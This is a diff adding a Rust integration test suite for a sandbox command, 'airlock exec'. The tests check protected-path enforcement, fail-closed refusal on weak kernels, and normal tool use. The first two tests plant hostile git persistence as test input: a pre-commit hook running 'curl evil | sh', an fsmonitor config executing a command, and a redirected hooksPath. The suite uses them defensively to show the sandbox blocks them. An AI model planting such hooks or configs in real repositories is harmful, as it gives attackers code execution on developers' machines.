@@ -1,0 +1,366 @@
+//! Protected paths, fail-closed behaviour and everyday work inside `airlock exec`.
+//! Effects are checked from outside the sandbox.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod sandbox_common;
+
+use std::path::Path;
+use std::process::Command;
+
+use sandbox_common::*;
+
+/// A git repository with a commit, owned by the case's user.
+fn git_fixture(case: Case) -> Fixture {
+    let t = Fixture::new(case);
+    std::fs::write(t.ws.join("README"), "hello\n").unwrap();
+    std::fs::create_dir_all(t.ws.join(".airlock")).unwrap();
+    std::fs::write(t.ws.join(".airlock/policy.toml"), "version = 1\n").unwrap();
+    t.chown_all();
+    let ws = t.ws.to_str().unwrap();
+    as_user(case, &t.ws, &["git", "-C", ws, "init", "-q"]);
+    as_user(
+        case,
+        &t.ws,
+        &["git", "-C", ws, "config", "user.email", "t@example.com"],
+    );
+    as_user(
+        case,
+        &t.ws,
+        &["git", "-C", ws, "config", "user.name", "Airlock Test"],
+    );
+    as_user(case, &t.ws, &["git", "-C", ws, "add", "README"]);
+    as_user(case, &t.ws, &["git", "-C", ws, "commit", "-qm", "init"]);
+    t
+}
+
+fn read(p: &Path) -> String {
+    std::fs::read_to_string(p).unwrap_or_default()
+}
+
+/// Everything under the protected paths, to compare before/after.
+fn protected_state(ws: &Path) -> Vec<(String, String)> {
+    let mut v = Vec::new();
+    for rel in [".git/config", ".airlock/policy.toml"] {
+        v.push((rel.to_string(), read(&ws.join(rel))));
+    }
+    let mut hooks: Vec<String> = std::fs::read_dir(ws.join(".git/hooks"))
+        .map(|d| {
+            d.flatten()
+                .map(|e| e.file_name().to_string_lossy().into_owned())
+                .collect()
+        })
+        .unwrap_or_default();
+    hooks.sort();
+    v.push((".git/hooks".into(), hooks.join(",")));
+    for rel in [".envrc", ".vscode", ".idea", ".airlock/evil"] {
+        v.push((rel.to_string(), ws.join(rel).exists().to_string()));
+    }
+    v
+}
+
+#[test]
+fn protected_paths_cannot_be_changed() {
+    for_each_case(|case| {
+        let t = git_fixture(case);
+        let before = protected_state(&t.ws);
+        let script = r#"
+            echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
+            printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git/config
+            git config core.hooksPath /tmp/evil-hooks
+            rm -f .git/config; rm -rf .git/hooks
+            echo 'export X=1' > .envrc
+            mkdir -p .vscode && echo '{"task": "evil"}' > .vscode/settings.json
+            mkdir -p .idea && echo x > .idea/workspace.xml
+            echo 'version = 2' > .airlock/policy.toml; echo x > .airlock/evil
+            mv .airlock airlock-away
+            exit 0
+        "#;
+        let r = t.exec(&[], script);
+        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
+        assert_eq!(protected_state(&t.ws), before, "{case}: {}", r.stderr);
+        if !case.mode.has_userns() {
+            // The fallback restores after the fact and says so.
+            assert!(
+                r.stderr.contains("restored") || r.stderr.contains("moved back"),
+                "{case}: {}",
+                r.stderr
+            );
+        }
+        // The repository still works from the host, and git runs no planted config.
+        let log = Command::new("git")
+            .args([
+                "-C",
+                t.ws.to_str().unwrap(),
+                "-c",
+                "safe.directory=*",
+                "log",
+                "--oneline",
+            ])
+            .output()
+            .unwrap();
+        assert!(
+            String::from_utf8_lossy(&log.stdout).contains("init"),
+            "{case}: repo broken"
+        );
+    });
+}
+
+#[test]
+fn renaming_git_away_and_recreating_it_does_not_stick() {
+    for_each_case(|case| {
+        let t = git_fixture(case);
+        let before = protected_state(&t.ws);
+        let script = r#"
+            mv .git .git-away || exit 0
+            mkdir -p .git/hooks
+            cp -r .git-away/* .git/ 2>/dev/null
+            echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
+            printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git/config
+            printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git-away/config
+            exit 0
+        "#;
+        let r = t.exec(&[], script);
+        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
+        assert_eq!(protected_state(&t.ws), before, "{case}: {}", r.stderr);
+        assert!(!t.ws.join(".git/hooks/pre-commit").exists(), "{case}");
+        assert!(
+            !read(&t.ws.join(".git/config")).contains("fsmonitor"),
+            "{case}"
+        );
+        // The real repository is back in place with its history.
+        assert!(t.ws.join(".git/HEAD").exists(), "{case}: .git not restored");
+        // Whatever was renamed away must not carry a planted config either.
+        for e in std::fs::read_dir(&t.ws).unwrap().flatten() {
+            let cfg = e.path().join("config");
+            if e.file_name() != ".git" && cfg.exists() {
+                assert!(
+                    !read(&cfg).contains("fsmonitor")
+                        || !e.path().join("HEAD").exists()
+                        || e.file_name().to_string_lossy().contains("airlock-replaced"),
+                    "{case}: {}",
+                    e.path().display()
+                );
+            }
+        }
+    });
+}
+
+#[test]
+fn git_add_and_commit_work() {
+    for_each_case(|case| {
+        let t = git_fixture(case);
+        let r = t.exec(&[], "echo change > file.txt && mkdir -p src && echo 'fn main() {}' > src/main.rs && git add -A && git commit -qm 'from the sandbox' && git status --short > status.txt");
+        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
+        let log = Command::new("git")
+            .args([
+                "-C",
+                t.ws.to_str().unwrap(),
+                "-c",
+                "safe.directory=*",
+                "log",
+                "--oneline",
+            ])
+            .output()
+            .unwrap();
+        assert!(
+            String::from_utf8_lossy(&log.stdout).contains("from the sandbox"),
+            "{case}: {}",
+            r.stderr
+        );
+        assert!(
+            !r.stderr.contains("restored"),
+            "{case}: git's own writes were reported as violations: {}",
+            r.stderr
+        );
+    });
+}
+
+#[test]
+fn python_node_and_shell_tools_run() {
+    for_each_case(|case| {
+        let t = Fixture::new(case);
+        t.chown_all();
+        let script = "/usr/bin/python3 -c 'open(\"py.txt\", \"w\").write(\"py-ok\")' && \
+                      node -e 'require(\"fs\").writeFileSync(\"node.txt\", \"node-ok\")' && \
+                      ls /usr > ls.txt && mktemp > mktemp.txt";
+        let r = t.exec(&[], script);
+        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
+        assert_eq!(read(&t.ws.join("py.txt")), "py-ok", "{case}");
+        assert_eq!(read(&t.ws.join("node.txt")), "node-ok", "{case}");
+    });
+}
+
+#[test]
+fn cargo_builds_a_small_crate_offline() {
+    // The toolchain of the user running the suite; an unprivileged user has none here.
+    let Some(home) = std::env::var_os("HOME") else {
+        return;
+    };
+    let cargo_home = std::env::var_os("CARGO_HOME")
+        .map(Into::into)
+        .unwrap_or_else(|| Path::new(&home).join(".cargo"));
+    let rustup_home = std::env::var_os("RUSTUP_HOME")
+        .map(Into::into)
+        .unwrap_or_else(|| Path::new(&home).join(".rustup"));
+    if !cargo_home.join("bin/cargo").exists() {
+        return;
+    }
+    for case in cases(&[Mode::Default, Mode::Abi1NoUserns])
+        .into_iter()
+        .filter(|c| c.user == User::Current)
+    {
+        let t = Fixture::new(case);
+        std::fs::create_dir_all(t.ws.join("hello/src")).unwrap();
+        std::fs::write(
+            t.ws.join("hello/Cargo.toml"),
+            "[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
+        )
+        .unwrap();
+        std::fs::write(
+            t.ws.join("hello/src/main.rs"),
+            "fn main() { println!(\"hi\"); }\n",
+        )
+        .unwrap();
+        let r = t.exec_argv(
+            &[
+                "--allow-read",
+                cargo_home.to_str().unwrap(),
+                "--allow-read",
+                rustup_home.to_str().unwrap(),
+                "--env",
+                &format!("CARGO_HOME={}", cargo_home.display()),
+                "--env",
+                &format!("RUSTUP_HOME={}", rustup_home.display()),
+            ],
+            &[
+                cargo_home.join("bin/cargo").to_str().unwrap(),
+                "build",
+                "--offline",
+                "-q",
+                "--manifest-path",
+                "hello/Cargo.toml",
+            ],
+        );
+        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
+        assert!(
+            t.ws.join("hello/target/debug/hello").exists(),
+            "{case}: no binary"
+        );
+    }
+}
+
+#[test]
+fn refuses_when_the_kernel_lacks_what_a_rule_needs() {
+    for case in cases(&[Mode::Default]) {
+        let t = Fixture::new(case);
+        t.chown_all();
+        // Below ABI 6 without the opt-in: refuse, name what is missing and the flag.
+        let mut c = t.base_command(&airlock_bin());
+        c.env("AIRLOCK_TEST_LANDLOCK_ABI", "5");
+        c.args(["exec", "--", "sh", "-c", "echo ran > ran.txt"]);
+        let r = run(c);
+        assert_eq!(r.code, 125, "{}", r.stderr);
+        assert!(
+            r.stderr.contains("ABI 6") && r.stderr.contains("--weaker-mode no-signal-scope"),
+            "{}",
+            r.stderr
+        );
+        assert!(!t.ws.join("ran.txt").exists(), "the command ran anyway");
+
+        // No Landlock at all.
+        let mut c = t.base_command(&airlock_bin());
+        c.env("AIRLOCK_TEST_LANDLOCK_ABI", "0");
+        c.args(["exec", "--", "sh", "-c", "echo ran > ran.txt"]);
+        let r = run(c);
+        assert_eq!(r.code, 125, "{}", r.stderr);
+        assert!(
+            r.stderr.contains("Landlock") && r.stderr.contains("--weaker-mode no-landlock"),
+            "{}",
+            r.stderr
+        );
+        assert!(!t.ws.join("ran.txt").exists(), "the command ran anyway");
+
+        // With the explicit opt-in it runs.
+        let mut c = t.base_command(&airlock_bin());
+        c.env("AIRLOCK_TEST_LANDLOCK_ABI", "5");
+        c.args([
+            "exec",
+            "--weaker-mode",
+            "no-signal-scope",
+            "--",
+            "sh",
+            "-c",
+            "echo ran > ran.txt",
+        ]);
+        let r = run(c);
+        assert_eq!(r.code, 0, "{}", r.stderr);
+        assert!(t.ws.join("ran.txt").exists());
+    }
+}
+
+#[test]
+fn a_terminal_stays_a_terminal() {
+    // `script` gives airlock a pty; the command must see a TTY on stdin and stdout.
+    for case in cases(&[Mode::Default, Mode::NoUserns]) {
+        let t = Fixture::new(case);
+        t.chown_all();
+        let inner = format!(
+            "{} exec --workspace {} -- sh -c 'test -t 0 && test -t 1 && tty > tty.txt'",
+            airlock_bin().display(),
+            t.ws.display()
+        );
+        let mut c = t.base_command(Path::new("/usr/bin/script"));
+        c.args(["-qec", &inner, "/dev/null"]);
+        let r = run(c);
+        assert_eq!(r.code, 0, "{case}: {} {}", r.stdout, r.stderr);
+        assert!(
+            read(&t.ws.join("tty.txt")).starts_with("/dev/pts/"),
+            "{case}: {}",
+            r.stdout
+        );
+    }
+}
+
+#[test]
+fn report_json_has_resource_use() {
+    let t = Fixture::new(cases(&[Mode::Default])[0]);
+    let report = t.root.join("report.json");
+    let r = t.exec_argv(
+        &[
+            "--report-json",
+            report.to_str().unwrap(),
+            "--max-output",
+            "100000",
+        ],
+        &[
+            "sh",
+            "-c",
+            "echo hello; head -c 300000 /dev/zero > big.bin; exit 3",
+        ],
+    );
+    assert_eq!(r.code, 3, "{}", r.stderr);
+    let json = read(&report);
+    assert!(json.contains("\"exit_code\":3"), "{json}");
+    assert!(json.contains("\"bytes_out\":6"), "{json}");
+    assert!(json.contains("\"killed_by\":null"), "{json}");
+    let r = t.exec_argv(
+        &[
+            "--report-json",
+            report.to_str().unwrap(),
+            "--max-output",
+            "1000",
+        ],
+        &["sh", "-c", "yes"],
+    );
+    assert_eq!(r.code, 128 + 9, "{}", r.stderr);
+    assert!(
+        read(&report).contains("\"killed_by\":\"output_cap\""),
+        "{}",
+        read(&report)
+    );
+    assert!(
+        r.stdout.len() <= 1000,
+        "output cap leaked {} bytes",
+        r.stdout.len()
+    );
+}
